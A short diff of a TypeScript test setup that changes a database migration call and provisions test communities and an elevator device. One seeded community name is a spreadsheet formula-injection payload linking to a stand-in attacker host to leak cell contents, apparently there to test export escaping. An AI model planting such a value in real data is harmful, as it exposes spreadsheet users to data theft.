@@ -30,7 +30,7 @@ const rule = (id: string, scope: Record<string, string>) =>
 
 beforeAll(async () => {
   db = await openDb({})
-  const features = await migrate(db, { log: silentLogger, retentionDays: 30, compressAfterDays: 7 })
+  const features = await migrate(db, { log: silentLogger })
   await seed(db)
   await provisionCommunity(db, { id: 'co-other', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' }, { id: 'cm-other', name: 'Other' })
   await provisionDevices(db, [{ id: 'el-o', kind: 'elevator', communityId: 'cm-other' }])
